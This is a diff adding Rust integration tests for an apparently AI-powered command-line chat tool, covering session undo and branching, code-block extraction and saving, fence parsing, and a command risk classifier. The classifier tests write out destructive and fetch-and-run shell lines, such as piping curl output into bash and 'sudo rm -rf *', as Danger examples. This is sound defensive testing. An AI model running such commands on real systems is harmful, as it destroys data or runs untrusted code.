+        helper.hint("explain the", 11, &ctx),
+        Some(" borrow checker".to_string())
+    );
+    assert!(helper
+        .highlight("/model x", 0)
+        .contains("\x1b[1;36m/model\x1b[0m x"));
+    assert_eq!(helper.highlight("/nope", 0), "/nope");
+
+    Ok(())
+}
+
+#[cfg(unix)]
+#[test]
+fn test_ctrl_c_cancels_request_and_keeps_repl() -> Result<(), Box<dyn Error>> {
+    use std::io::{Read, Write};
+    use std::net::TcpListener;
+    use std::process::Stdio;
+
+    // Answers model list requests with 404 and never answers queries, reporting when a
+    // query arrives so that Ctrl+C is only pressed once the request is in flight
+    let listener = TcpListener::bind("127.0.0.1:0")?;
+    let url = format!("http://{}", listener.local_addr()?);
+    let (sent, in_flight) = std::sync::mpsc::channel();
+    std::thread::spawn(move || {
+        let mut pending = Vec::new();
+        for mut stream in listener.incoming().flatten() {
+            let mut buf = [0; 4096];
+            let n = stream.read(&mut buf).unwrap_or(0);
+            if buf[..n].starts_with(b"GET") {
+                let _ = stream.write_all(b"HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\n\r\n");
+            } else {
+                pending.push(stream);
+                let _ = sent.send(());
+            }
+        }
+    });
+
+    let home = tempdir()?;
+    let mut child = chris_process(home.path(), &url)
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::null())
+        .spawn()?;
+    child
+        .stdin
+        .take()
+        .ok_or("no stdin")?
+        .write_all(b"tell me a long story\n/model\n")?;
+
+    in_flight.recv_timeout(std::time::Duration::from_secs(30))?;
+    std::process::Command::new("kill")
+        .args(["-INT", &child.id().to_string()])
+        .status()?;
+
+    let output = child.wait_with_output()?;
+    let stdout = String::from_utf8(output.stdout)?;
+    assert!(output.status.success());
+    assert!(stdout.contains("Request cancelled."));
+    assert!(stdout.contains("Model: "));
+
+    Ok(())
+}
+
+#[test]
+fn test_session_undo_and_branch() -> Result<(), Box<dyn Error>> {
+    use chris::session::{read_transcript, Session, TranscriptEntry};
+
+    // Sessions started in the same second by different processes get their own files
+    let started = Session::start();
+    let name = started
+        .transcript()
+        .and_then(|path| path.file_name())
+        .ok_or("expected a transcript")?;
+    assert!(name
+        .to_string_lossy()
+        .ends_with(&format!("-{}.jsonl", std::process::id())));
+
+    let dir = tempdir()?;
+    let path = dir.path().join("session.jsonl");
+    let mut session = Session::recorded(&path);
+    for turn in 1..=3 {
+        session.push("user", &format!("question {}", turn));
+        session.push("assistant", &format!("answer {}", turn));
+    }
+
+    let removed = session.undo().ok_or("expected a turn to undo")?;
+    assert_eq!(removed.len(), 2);
+    assert_eq!(removed[0].content, "question 3");
+    assert_eq!(session.last_query(), Some("question 2"));
+    session.restore(removed);
+    assert_eq!(session.turns(), 3);
+
+    assert!(session.branch(4).is_none());
+    let branch = session.branch(2).ok_or("expected a branch")?;
+    assert_eq!(branch.turns(), 2);
+    assert_eq!(branch.messages()[3].content, "answer 2");
+
+    // The branch has its own transcript pointing back at the original
+    let branch_path = branch.transcript().ok_or("expected a transcript")?;
+    assert_ne!(branch_path, path.as_path());
+    assert_eq!(
+        read_transcript(branch_path)?[0],
+        TranscriptEntry::Branched {
+            from: path.clone(),
+            turn: 2
+        }
+    );
+    assert_eq!(read_transcript(&path)?[6], TranscriptEntry::Undo);
+
+    let mut empty = Session::unrecorded();
+    assert!(empty.undo().is_none());
+
+    Ok(())
+}
+
+#[test]
+fn test_copy_code_block_from_last_response() -> Result<(), Box<dyn Error>> {
+    use chris::clipboard::osc52;
+    use chris::code_blocks::extract;
+    use chris::util::format_response;
+
+    let response = "Run this:\n```bash\nls -la\n```\nthen\n```\nexit\n```\n";
+    let blocks: Vec<_> = extract(response).into_iter().map(|b| b.content).collect();
+    assert_eq!(blocks, vec!["ls -la\n", "exit\n"]);
+    let formatted = format_response(response);
+    assert!(formatted.contains("┌── [1] bash ─"));
+    assert!(formatted.contains("\nls -la\n"));
+    assert!(!formatted.contains('│'));
+
+    assert_eq!(osc52("aGk=", false), "\x1b]52;c;aGk=\x07");
+    assert_eq!(
+        osc52("aGk=", true),
+        "\x1bPtmux;\x1b\x1b]52;c;aGk=\x07\x1b\\"
+    );
+
+    // Without a terminal the text is written to a file instead
+    let home = tempdir()?;
+    let mut server = mockito::Server::new();
+    mock_completion(&mut server, response);
+
+    let mut cmd = chris_cmd(&server, home.path());
+    cmd.env("TMPDIR", home.path())
+        .write_stdin("list files\n/copy 3\n/copy 1\n");
+    cmd.assert()
+        .success()
+        .stderr(predicate::str::contains(
+            "The last response has 2 code block(s)",
+        ))
+        .stdout(predicate::str::contains("saved code block 1 to"));
+    let copies: Vec<_> = std::fs::read_dir(home.path())?
+        .filter_map(|entry| entry.ok().map(|entry| entry.path()))
+        .filter(|path| path.to_string_lossy().contains("chris-copy-"))
+        .collect();
+    assert_eq!(copies.len(), 1);
+    assert_eq!(std::fs::read_to_string(&copies[0])?, "ls -la\n");
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt;
+        assert_eq!(copies[0].metadata()?.permissions().mode() & 0o777, 0o600);
+    }
+
+    Ok(())
+}
+
+#[test]
+fn test_save_code_blocks_to_directory() -> Result<(), Box<dyn Error>> {
+    use chris::code_blocks::{extract, file_names, save_all, CodeBlock};
+
+    let block = |lang: &str| CodeBlock {
+        lang: lang.to_string(),
+        content: String::new(),
+    };
+    assert_eq!(block("Python").file_name(1), "code-1.py");
+    assert_eq!(block("yml title=ci").file_name(2), "code-2.yaml");
+    assert_eq!(block("dockerfile").file_name(3), "Dockerfile");
+    assert_eq!(block("").file_name(4), "code-4.txt");
+
+    // A second Dockerfile doesn't take the first one's name
+    let home = tempdir()?;
+    let response =
+        "```dockerfile\nFROM alpine\n```\n```sh\nmake\n```\n```Dockerfile\nFROM debian\n```\n";
+    assert_eq!(
+        file_names(&extract(response)),
+        vec!["Dockerfile", "code-2.sh", "Dockerfile.3"]
+    );
+    save_all(response, home.path())?;
+    assert_eq!(
+        std::fs::read_to_string(home.path().join("Dockerfile"))?,
+        "FROM alpine\n"
+    );
+    assert_eq!(
+        std::fs::read_to_string(home.path().join("Dockerfile.3"))?,
+        "FROM debian\n"
+    );
+
+    let out = home.path().join("out");
+    std::fs::create_dir(&out)?;
+    std::fs::write(out.join("code-2.json"), "{\"debug\": true}\n")?;
+
+    let mut server = mockito::Server::new();
+    let response = "```python\nprint('hi')\n```\n```json\n{\"debug\": false}\n```\n";
+    mock_completion(&mut server, response);
+
+    // The existing file differs, so it's only replaced after confirmation
+    let mut cmd = chris_cmd(&server, home.path());
+    cmd.arg("--save-code")
+        .arg(&out)
+        .arg("write a script and a config")
+        .write_stdin("n\n");
+    cmd.assert()
+        .success()
+        .stdout(predicate::str::contains("Saved code block 1 to"))
+        .stdout(predicate::str::contains(
+            "-{\"debug\": true}\n+{\"debug\": false}",
+        ))
+        .stdout(predicate::str::contains("Kept "));
+
+    assert_eq!(
+        std::fs::read_to_string(out.join("code-1.py"))?,
+        "print('hi')\n"
+    );
+    assert_eq!(
+        std::fs::read_to_string(out.join("code-2.json"))?,
+        "{\"debug\": true}\n"
+    );
+
+    Ok(())
+}
+
+#[test]
+fn test_code_fences_are_parsed_and_classified() -> Result<(), Box<dyn Error>> {
+    use chris::code_blocks::{extract, Language};
+    use chris::util::extract_commands;
+
+    let response = "1. Install:\n   ```zsh\n   brew install jq\n   ```\n\
+        ~~~console\n$ jq --version\njq-1.7\n~~~\n\
+        ````markdown\n```ps1\nGet-Date\n```\n````\n\
+        ```csharp\nConsole.WriteLine();\n```\n\
+        Inline ```not a fence``` here\n\
+        ```powershell\nGet-ChildItem\n";
+    let blocks = extract(response);
+    let summary: Vec<_> = blocks
+        .iter()
+        .map(|b| (b.lang.as_str(), b.content.as_str(), b.language()))
+        .collect();
+    // Four columns of indentation make indented code, except inside a list item
+    let indented = "Example:\n\n    ```\n    not a fence\n\nText\n";
+    assert!(extract(indented).is_empty());
+    let listed = "1. Install it:\n\n    ```bash\n    brew install jq\n    ```\n2. Done\n";
+    assert_eq!(extract(listed)[0].content, "brew install jq\n");
+    let after_list = "- item\n\nParagraph\n\n    ```\n    code\n";
+    assert!(extract(after_list).is_empty());
+    // A tab counts as four columns
+    let tabbed = "Example:\n\n\t```\n\tnot a fence\n\nText\n";
+    assert!(extract(tabbed).is_empty());
+    let tabbed_list = "- Install it:\n\t```bash\n\tbrew install jq\n\t```\n";
+    assert_eq!(extract(tabbed_list)[0].content, "brew install jq\n");
+
+    // fish isn't run with sh, so its blocks aren't offered as commands
+    let fish = extract("```fish\nset -x PATH $PATH ~/bin\n```\n");
+    assert_eq!(fish[0].language(), Language::Other);
+    assert!(fish[0].commands().is_empty());
+
+    // bash, zsh and ksh blocks are run by the shell they name
+    assert_eq!(blocks[0].commands()[0].shell, Some("zsh"));
+    assert_eq!(blocks[1].commands()[0].shell, None);
+    #[cfg(unix)]
+    {
+        let bash = extract("```bash\n[[ -n x ]] && echo ok\n```\n");
+        assert_eq!(
+            chris::util::execute_command(&bash[0].commands()[0])?,
+            "ok\n"
+        );
+    }
+
+    assert_eq!(
+        summary,
+        vec![
+            ("zsh", "brew install jq\n", Language::Shell),
+            ("console", "$ jq --version\njq-1.7\n", Language::Console),
+            ("markdown", "```ps1\nGet-Date\n```\n", Language::Other),
+            ("csharp", "Console.WriteLine();\n", Language::Other),
+            // Left open, so it runs to the end
+            ("powershell", "Get-ChildItem\n", Language::PowerShell),
+        ]
+    );
+
+    let commands: Vec<_> = extract_commands(response)
+        .into_iter()
+        .map(|c| c.text)
+        .collect();
+    assert_eq!(
+        commands,
+        vec!["brew install jq", "jq --version", "Get-ChildItem"]
+    );
+
+    Ok(())
+}
+
+/// Checks properties of the fence parser on generated input
+///
+/// Inputs are random combinations of Markdown and shell fragments from a fixed seed, so
+/// a failure can be reproduced. This is a property test, not coverage-guided fuzzing.
+#[test]
+fn test_code_fence_parser_on_generated_input() {
+    use chris::code_blocks::{extract, parse, Segment};
+    use chris::util::{extract_commands, format_response};
+
+    const FRAGMENTS: &[&str] = &[
+        "```",
+        "~~~",
+        "````",
+        "```bash",
+        "  ```py",
+        "\t~~~~ sh",
+        "``",
+        "```a`b",
+        "$ ls -la",
+        "plain text",
+        "é✓ 日本",
+        "",
+        " ",
+        "\r",
+        "    ```",
+        "~~~~~~",
+        "# heading",
+        "```` ",
+        "```console",
+        "```powershell",
+        "cat <<EOF",
+        "cat <<-'é",
+        "EOF",
+        "PS C:\\> x |",
+        "a@b:~$ ls",
+        "if x; then",
+        "done",
+        "> more",
+        "'",
+        "\\",
+        "echo `",
+        "@\"",
+    ];
+    let mut rng = fastrand::Rng::with_seed(48);
+
+    // Arbitrary input never panics and keeps every line it doesn't treat as a fence
+    for _ in 0..2000 {
+        let mut input = String::new();
+        for _ in 0..rng.usize(0..20) {
+            if rng.u8(..) < 32 {
+                let len = rng.usize(0..6);
+                input.extend(std::iter::repeat_with(|| rng.char(..)).take(len));
+            } else {
+                input.push_str(FRAGMENTS[rng.usize(..FRAGMENTS.len())]);
+            }
+            input.push('\n');
+        }
+
+        let mut lines = input.lines();
+        for segment in parse(&input) {
+            let text = match &segment {
+                Segment::Text(text) => text,
+                Segment::Code(block) => &block.content,
+            };
+            for line in text.lines() {
+                assert!(
+                    lines.any(|original| original.ends_with(line)),
+                    "{:?} is not in {:?}",
+                    line,
+                    input
+                );
+            }
+        }
+
+        let formatted = format_response(&input);
+        assert_eq!(formatted.matches("┌── [").count(), extract(&input).len());
+
+        for command in extract_commands(&input) {
+            assert!(!command.text.is_empty());
+        }
+    }
+
+    // Well-formed responses give back exactly the code that was fenced
+    const CODE: &[&str] = &[
+        "ls",
+        "  indented",
+        "$ echo hi",
+        "",
+        "x = `y`",
+        "~ home",
+        "é",
+    ];
+    for _ in 0..2000 {
+        let mut input = String::new();
+        let mut expected = Vec::new();
+        for _ in 0..rng.usize(0..5) {
+            input.push_str("Some text\n");
+            let marker = if rng.bool() { "`" } else { "~" };
+            let fence = marker.repeat(rng.usize(3..6));
+            let indent = " ".repeat(rng.usize(0..4));
+            let mut content = String::new();
+            for _ in 0..rng.usize(0..4) {
+                content.push_str(CODE[rng.usize(..CODE.len())]);
+                content.push('\n');
+            }
+            input.push_str(&format!("{}{}sh\n", indent, fence));
+            for line in content.lines() {
+                input.push_str(&format!("{}{}\n", indent, line));
+            }
+            input.push_str(&format!("{}{}\n", indent, fence));
+            expected.push(content);
+        }
+
+        let contents: Vec<_> = extract(&input).into_iter().map(|b| b.content).collect();
+        assert_eq!(contents, expected, "{:?}", input);
+    }
+}
+
+#[test]
+fn test_code_blocks_are_split_into_commands() -> Result<(), Box<dyn Error>> {
+    use chris::code_blocks::{extract, Language};
+    use chris::util::parse_selection;
+
+    let response = r#"```console
+user@box:~$ echo "hello
+> world"
+hello
+world
+$ ls \
+>   -la
+total 0
+```
+
+```bash
+#!/bin/bash
+# Write the config
+cat <<-'EOF' > app.conf
+	debug = true
+	EOF
+
+# Check it, then show it
+grep -q debug app.conf &&
+  cat app.conf
+for f in *.conf; do
+  echo "$f"  # each file
+done
+echo done <<< "x"
+```
+
+```powershell
+PS C:\> Get-ChildItem |
+>> Where-Object Length -gt 0
+PS C:\> Write-Host "ok"
+ok
+```
+"#;
+    let commands: Vec<_> = extract(response)
+        .iter()
+        .flat_map(|block| block.commands())
+        .map(|c| (c.language, c.text, c.comment, c.output))
+        .collect();
+
+    let shell = |text: &str, comment: Option<&str>| {
+        (
+            Language::Shell,
+            text.to_string(),
+            comment.map(str::to_string),
+            String::new(),
+        )
+    };
+    assert_eq!(
+        commands,
+        vec![
+            (
+                Language::Console,
+                "echo \"hello\nworld\"".to_string(),
+                None,
+                "hello\nworld\n".to_string()
+            ),
+            (
+                Language::Console,
+                "ls \\\n  -la".to_string(),
+                None,
+                "total 0\n".to_string()
+            ),
+            shell(
+                "cat <<-'EOF' > app.conf\n\tdebug = true\n\tEOF",
+                Some("Write the config")
+            ),
+            shell(
+                "grep -q debug app.conf &&\n  cat app.conf",
+                Some("Check it, then show it")
+            ),
+            shell(
+                "for f in *.conf; do\n  echo \"$f\"  # each file\ndone",
+                None
+            ),
+            shell("echo done <<< \"x\"", None),
+            (
+                Language::PowerShell,
+                "Get-ChildItem |\nWhere-Object Length -gt 0".to_string(),
+                None,
+                String::new()
+            ),
+            (
+                Language::PowerShell,
+                "Write-Host \"ok\"".to_string(),
+                None,
+                "ok\n".to_string()
+            ),
+        ]
+    );
+
+    // curl's progress header starts with `%`, but it is output, not a zsh prompt
+    let curl = "```console\n$ curl -O https://example.com/a.tgz\n  % Total    % Received % Xferd\n% 100  1024\n$ ls\na.tgz\n```\n";
+    let commands: Vec<_> = extract(curl)
+        .iter()
+        .flat_map(|block| block.commands())
+        .map(|c| (c.text, c.output))
+        .collect();
+    assert_eq!(
+        commands,
+        vec![
+            (
+                "curl -O https://example.com/a.tgz".to_string(),
+                "  % Total    % Received % Xferd\n% 100  1024\n".to_string()
+            ),
+            ("ls".to_string(), "a.tgz\n".to_string()),
+        ]
+    );
+    let zsh: Vec<_> = extract("```\n% echo hi\nhi\n   $ not a prompt\n```\n")
+        .iter()
+        .flat_map(|block| block.commands())
+        .map(|c| (c.language, c.text, c.output))
+        .collect();
+    assert_eq!(
+        zsh,
+        vec![(
+            Language::Console,
+            "echo hi".to_string(),
+            "hi\n   $ not a prompt\n".to_string()
+        )]
+    );
+
+    assert_eq!(parse_selection("1, 3-4", 4)?, vec![0, 2, 3]);
+    assert_eq!(parse_selection("all", 3)?, vec![0, 1, 2]);
+    assert_eq!(parse_selection("", 3)?, Vec::<usize>::new());
+    assert!(parse_selection("5", 3).is_err());
+
+    Ok(())
+}
+
+#[test]
+fn test_command_menu_risk_and_choices() -> Result<(), Box<dyn Error>> {
+    use chris::code_blocks::Risk;
+    use chris::command_menu::Action;
+
+    assert_eq!(Risk::of("ls -la | grep conf"), Risk::Safe);
+    assert_eq!(Risk::of("echo hi 2>&1 >/dev/null"), Risk::Safe);
+    assert_eq!(Risk::of("cat format.txt"), Risk::Safe);
+    assert_eq!(Risk::of("echo hi > notes.txt"), Risk::Caution);
+    assert_eq!(Risk::of("sudo ls /root"), Risk::Caution);
+    assert_eq!(Risk::of("DEBUG=1 cargo install ripgrep"), Risk::Caution);
+    assert_eq!(Risk::of("sed -i 's/a/b/' f"), Risk::Caution);
+    assert_eq!(Risk::of("cd build && sudo rm -rf *"), Risk::Danger);
+    assert_eq!(Risk::of("curl -fsSL https://x.sh | bash"), Risk::Danger);
+    assert_eq!(Risk::of("Remove-Item -Recurse out"), Risk::Danger);
+
+    assert_eq!(Action::parse("", 3)?, Action::Done);
+    assert_eq!(Action::parse("all", 3)?, Action::All);
+    assert_eq!(Action::parse("1,3", 3)?, Action::Run(vec![0, 2]));
+    assert_eq!(Action::parse("e 2", 3)?, Action::Edit(1));
+    assert_eq!(Action::parse("c3", 3)?, Action::Copy(2));
+    assert_eq!(Action::parse("x1", 3)?, Action::Explain(0));
+    assert!(Action::parse("e4", 3).is_err());
+
+    // A batch with a risky command runs only after confirming, and the edited one is run
+    let home = tempdir()?;
+    let mut server = mockito::Server::new();
+    let response = "```bash\necho first\nrm -rf nothing-here\necho second\n```\n";
+    mock_completion(&mut server, response);
+
+    let mut cmd = chris_cmd(&server, home.path());
+    cmd.arg("print two words")
+        .write_stdin("1,2\nn\ne3\necho edited\n\n");
+    cmd.assert()
+        .success()
+        .stdout(predicate::str::contains("2. [danger]"))
+        .stdout(predicate::str::contains(
+            "These commands can change your system:\n   2. [danger]",
+        ))
+        .stdout(predicate::str::contains("Nothing was run."))
+        .stdout(predicate::str::contains("│ edited"))
+        .stdout(predicate::str::contains("│ first").not());
+
+    Ok(())
+}